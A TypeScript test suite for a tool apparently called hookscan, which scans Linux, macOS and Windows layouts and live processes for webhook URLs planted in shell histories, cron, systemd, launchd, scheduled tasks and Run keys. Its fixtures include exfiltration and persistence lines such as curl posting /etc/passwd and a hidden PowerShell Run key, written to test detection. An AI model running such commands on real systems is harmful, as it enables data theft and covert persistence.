import { spawn, execFileSync, type ChildProcess } from 'node:child_process';
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { cli } from '../support/cli.js';
import { webhook } from '../support/fabricate.js';
import { bashTimes, fishTimes, registryRemovals, sweepHost, zshTimes } from '../../src/host/index.js';
import { detectOnHost, type HostLocation } from '../../src/app/host.js';
import { loadProviders } from '../../src/patterns/index.js';

const roots: string[] = [];
afterAll(() => {
  for (const r of roots) rmSync(r, { recursive: true, force: true });
});

function newRoot(): string {
  const r = mkdtempSync(join(tmpdir(), 'hookscan-host-'));
  roots.push(r);
  return r;
}

function put(root: string, path: string, content: string | Buffer): void {
  const real = join(root, path);
  mkdirSync(dirname(real), { recursive: true });
  writeFileSync(real, content);
}

const utf16 = (s: string) => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(s, 'utf16le')]);

interface JsonHost {
  findings: { url: string; provider: string; locations: HostLocation[] }[];
  host: { coverage: { path: string; status: string; reason: string }[] };
}

async function sweep(root: string, extra: string[] = []): Promise<{ code: number; report: JsonHost; stdout: string }> {
  const r = await cli(['host', '--root', root, '--all-users', '-f', 'json', ...extra], root);
  expect(r.stderr).toBe('');
  return { code: r.code, report: JSON.parse(r.stdout) as JsonHost, stdout: r.stdout };
}

function at(report: JsonHost, path: string): HostLocation | undefined {
  for (const f of report.findings) for (const l of f.locations) if (l.path === path) return l;
  return undefined;
}

describe('hookscan host on a Linux layout', () => {
  const root = newRoot();
  const h = { bash: webhook('slack'), zsh: webhook('discord'), fish: webhook('telegram'), cron: webhook('slack'), spool: webhook('discord'), unit: webhook('webhook-site'), timer: webhook('slack'), rc: webhook('zapier'), bashrc: webhook('discord'), xdg: webhook('slack'), atjob: webhook('discord') };
  put(root, 'home/alice/.bash_history', `ls\n#1700000000\ncurl -X POST -d @/etc/passwd ${h.bash.url}\n`);
  put(root, 'home/alice/.zsh_history', `: 1700000100:0;echo hi\n: 1700000200:0;curl ${h.zsh.url}\n`);
  put(root, 'root/.local/share/fish/fish_history', `- cmd: curl ${h.fish.url}\n  when: 1700000300\n`);
  put(root, 'etc/crontab', `SHELL=/bin/sh\n*/5 * * * * root curl -s -d "$(hostname)" ${h.cron.url}\n`);
  put(root, 'var/spool/cron/crontabs/alice', `@reboot curl ${h.spool.url}\n`);
  put(root, 'etc/systemd/system/sync.service', `[Service]\nExecStart=/usr/bin/curl ${h.unit.url}\n`);
  put(root, 'home/alice/.config/systemd/user/beat.timer', `[Timer]\n# ${h.timer.url}\nOnCalendar=hourly\n`);
  put(root, 'etc/rc.local', `#!/bin/sh\ncurl ${h.rc.url} &\nexit 0\n`);
  put(root, 'home/alice/.bashrc', `alias x='curl ${h.bashrc.url}'\n`);
  put(root, 'home/alice/.config/autostart/agent.desktop', `[Desktop Entry]\nExec=curl ${h.xdg.url}\n`);
  put(root, 'var/spool/cron/atjobs/a0001', `#!/bin/sh\ncurl ${h.atjob.url}\n`);
  // Things that cannot be read as a root user can: a FIFO, a broken link, a folder where a file should be.
  mkdirSync(join(root, 'etc/cron.d'), { recursive: true });
  execFileSync('mkfifo', [join(root, 'etc/cron.d/pipe')]);
  symlinkSync('/nonexistent/target', join(root, 'etc/cron.d/dangling'));
  mkdirSync(join(root, 'home/bob/.bash_history'), { recursive: true });

  it('finds each webhook with its technique, line and time, and lists what it could not read', async () => {
    const { code, report, stdout } = await sweep(root);
    expect(code).toBe(1);
    const expectAt = (path: string, technique: string, line?: number) => {
      const l = at(report, path);
      expect(l, path).toBeDefined();
      expect(l!.technique?.id, path).toBe(technique);
      if (line) expect(l!.line, path).toBe(line);
      expect(l!.removal.length).toBeGreaterThan(10);
      return l!;
    };
    expect(expectAt('/home/alice/.bash_history', 'T1059', 3).timestamp).toBe('2023-11-14T22:13:20.000Z');
    expect(expectAt('/home/alice/.zsh_history', 'T1059', 2).timestamp).toBe(new Date(1700000200_000).toISOString());
    expect(expectAt('/root/.local/share/fish/fish_history', 'T1059', 1).timestamp).toBe(new Date(1700000300_000).toISOString());
    expectAt('/etc/crontab', 'T1053.003', 2);
    expect(expectAt('/var/spool/cron/crontabs/alice', 'T1053.003').removal).toContain('crontab -u alice -e');
    expect(expectAt('/etc/systemd/system/sync.service', 'T1543.002', 2).removal).toContain('systemctl disable --now sync.service');
    expect(expectAt('/home/alice/.config/systemd/user/beat.timer', 'T1053.006').removal).toContain('systemctl --user');
    expectAt('/etc/rc.local', 'T1037.004', 2);
    expectAt('/home/alice/.bashrc', 'T1546.004', 1);
    expectAt('/home/alice/.config/autostart/agent.desktop', 'T1547.013');
    expectAt('/var/spool/cron/atjobs/a0001', 'T1053.002');
    const cov = new Map(report.host.coverage.map((c) => [c.path, c]));
    expect(cov.get('/etc/cron.d/pipe')?.reason).toMatch(/FIFO/);
    expect(cov.get('/etc/cron.d/dangling')?.reason).toMatch(/broken symbolic link/);
    expect(cov.get('/home/bob/.bash_history')?.status).toBe('not-a-file');
    for (const w of Object.values(h)) expect(stdout).not.toContain(w.secret);
  });

  it('renders text with the technique and the coverage, redacted', async () => {
    const r = await cli(['host', '--root', root, '--all-users'], root);
    expect(r.code).toBe(1);
    expect(r.stdout).toContain('technique: T1053.003');
    expect(r.stdout).toMatch(/Coverage: 3 artifacts could not be read/);
    for (const w of Object.values(h)) expect(r.stdout).not.toContain(w.secret);
    const sarif = await cli(['host', '--root', root, '--all-users', '-f', 'sarif'], root);
    expect(JSON.parse(sarif.stdout).runs[0].results.length).toBeGreaterThan(0);
  });

  it('looks only in the given home without --all-users, and never writes under the root', async () => {
    const before = execFileSync('find', [root, '-newer', join(root, 'etc/crontab')]).toString();
    const r = await cli(['host', '--root', root, '--home', '/root', '-f', 'json'], root);
    const report = JSON.parse(r.stdout) as JsonHost;
    expect(at(report, '/root/.local/share/fish/fish_history')).toBeDefined();
    expect(at(report, '/home/alice/.bash_history')).toBeUndefined();
    expect(at(report, '/etc/crontab')).toBeDefined();
    expect(execFileSync('find', [root, '-newer', join(root, 'etc/crontab')]).toString()).toBe(before);
  });
});

describe('hookscan host on macOS and Windows layouts', () => {
  it('reads launchd plists and zsh sessions; a binary plist lands in coverage', async () => {
    const root = newRoot();
    const agent = webhook('slack');
    const daemon = webhook('discord');
    const session = webhook('telegram');
    const plist = (url: string) => `<?xml version="1.0" encoding="UTF-8"?>\n<plist version="1.0"><dict>\n<key>ProgramArguments</key><array><string>/usr/bin/curl</string>\n<string>${url}</string></array></dict></plist>\n`;
    put(root, 'Users/eve/Library/LaunchAgents/com.eve.sync.plist', plist(agent.url));
    put(root, 'Library/LaunchDaemons/com.corp.beacon.plist', plist(daemon.url));
    put(root, 'Library/LaunchDaemons/com.corp.binary.plist', Buffer.concat([Buffer.from('bplist00'), Buffer.alloc(32, 1)]));
    put(root, 'Users/eve/.zsh_sessions/ABCD.history', `curl ${session.url}\n`);
    const { report } = await sweep(root);
    expect(at(report, '/Users/eve/Library/LaunchAgents/com.eve.sync.plist')?.technique?.id).toBe('T1543.001');
    expect(at(report, '/Library/LaunchDaemons/com.corp.beacon.plist')?.technique?.id).toBe('T1543.004');
    expect(at(report, '/Users/eve/.zsh_sessions/ABCD.history')?.line).toBe(1);
    expect(report.host.coverage.find((c) => c.path.endsWith('com.corp.binary.plist'))?.reason).toMatch(/binary property list/);
  });

  it('reads UTF-16 task XML, Startup entries, PSReadLine history and a .reg export', async () => {
    const root = newRoot();
    const task = webhook('discord');
    const startup = webhook('slack');
    const psr = webhook('webhook-site');
    const reg = webhook('telegram');
    put(root, 'Windows/System32/Tasks/Microsoft/Updater', utf16(`<?xml version="1.0" encoding="UTF-16"?>\r\n<Task><Actions><Exec><Command>powershell</Command>\r\n<Arguments>-c iwr -Method Post ${task.url}</Arguments></Exec></Actions></Task>\r\n`));
    put(root, 'ProgramData/Microsoft/Windows/Start Menu/Programs/StartUp/sync.cmd', `@echo off\r\ncurl ${startup.url}\r\n`);
    put(root, 'Users/carol/AppData/Roaming/Microsoft/Windows/PowerShell/PSReadLine/ConsoleHost_history.txt', `Get-Date\r\nInvoke-RestMethod -Method Post -Uri ${psr.url}\r\n`);
    const regFile = join(newRoot(), 'run.reg');
    writeFileSync(regFile, utf16(`Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n"Updater"="powershell -w hidden -c iwr ${reg.url}"\r\n`));
    const { report, stdout } = await sweep(root, ['--reg', regFile]);
    const t = at(report, '/Windows/System32/Tasks/Microsoft/Updater');
    expect(t?.technique?.id).toBe('T1053.005');
    expect(t?.line).toBe(3);
    expect(t?.removal).toContain('schtasks /Delete /TN "\\Microsoft\\Updater"');
    expect(at(report, '/ProgramData/Microsoft/Windows/Start Menu/Programs/StartUp/sync.cmd')?.technique?.id).toBe('T1547.001');
    expect(at(report, '/Users/carol/AppData/Roaming/Microsoft/Windows/PowerShell/PSReadLine/ConsoleHost_history.txt')?.line).toBe(2);
    const r = at(report, regFile);
    expect(r?.technique?.id).toBe('T1547.001');
    expect(r?.removal).toBe('reg delete "HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run" /v "Updater" /f (a Run key: it starts at every logon)');
    for (const w of [task, startup, psr, reg]) expect(stdout).not.toContain(w.secret);
  });

  it('a file given with --reg that is not a registry export is reported, not scanned as one', async () => {
    const dir = newRoot();
    writeFileSync(join(dir, 'x.reg'), 'hello\n');
    const { code, report } = await sweep(newRoot(), ['--reg', join(dir, 'x.reg'), join(dir, 'missing.reg')]);
    expect(code).toBe(0);
    expect(report.host.coverage.find((c) => c.path.endsWith('x.reg'))?.status).toBe('corrupt');
    expect(report.host.coverage.find((c) => c.path.endsWith('missing.reg'))?.status).toBe('absent');
  });
});

describe('hookscan host on live processes', () => {
  let child: ChildProcess | undefined;
  afterAll(() => child?.kill());

  it.skipIf(process.platform !== 'linux')('finds a webhook in a running process\'s arguments and environment via /proc', async () => {
    const arg = webhook('slack');
    const env = webhook('discord');
    child = spawn(process.execPath, ['-e', 'setInterval(() => {}, 1000)', arg.url], { env: { PATH: process.env.PATH, NOTIFY_URL: env.url }, stdio: 'ignore' });
    await new Promise((r) => setTimeout(r, 200));
    const root = newRoot();
    symlinkSync('/proc', join(root, 'proc'));
    const { report, stdout } = await sweep(root);
    const a = at(report, `/proc/${child.pid}/cmdline`);
    expect(a?.pid).toBe(child.pid);
    expect(a?.process).toBe('node');
    expect(a?.removal).toContain(`kill ${child.pid}`);
    expect(at(report, `/proc/${child.pid}/environ`)?.pid).toBe(child.pid);
    expect(stdout).not.toContain(arg.secret);
    expect(stdout).not.toContain(env.secret);
  });
});

describe('history line times', () => {
  it('parses bash #epoch lines, zsh extended lines and fish when: lines', () => {
    expect([...bashTimes('#1700000000\ncmd\nnot dated\n')]).toEqual([[2, '2023-11-14T22:13:20.000Z']]);
    expect([...zshTimes(': 1700000000:0;a \\\ncontinued\n')].map(([l]) => l)).toEqual([1, 2]);
    expect(fishTimes('- cmd: x\n  when: 1700000000\n').get(1)).toBe('2023-11-14T22:13:20.000Z');
    expect(registryRemovals('[HKEY_LOCAL_MACHINE\\X]\n@="v"\n').get(2)).toBe('reg delete "HKEY_LOCAL_MACHINE\\X" /ve /f');
  });

  it('sweeping and scanning a history grows linearly (N and 4N lines)', async () => {
    const patterns = loadProviders().flatMap((p) => p.patterns);
    const url = webhook('slack').url;
    const timeFor = async (n: number) => {
      const root = newRoot();
      const lines: string[] = [];
      for (let i = 0; i < n; i++) lines.push(`#${1700000000 + i}`, i % 500 === 0 ? `curl ${url}` : `ls -la /tmp/dir${i} && echo https://example.com/${i}`);
      put(root, 'root/.bash_history', `${lines.join('\n')}\n`);
      put(root, 'root/.zsh_history', lines.map((l, i) => `: ${1700000000 + i}:0;${l}`).join('\n'));
      const runs: number[] = [];
      for (let k = 0; k < 3; k++) {
        const t0 = performance.now();
        const s = await sweepHost({ root, home: '/root' });
        const result = detectOnHost(s.artifacts, patterns);
        runs.push(performance.now() - t0);
        expect(result.findings[0].locations.length).toBeGreaterThan(0);
      }
      return runs.sort((a, b) => a - b)[1];
    };
    await timeFor(500); // warm up
    const small = await timeFor(2_500);
    const large = await timeFor(10_000);
    expect(large / small).toBeLessThan(10); // linear ≈ 4, quadratic ≈ 16
  }, 120_000);
});
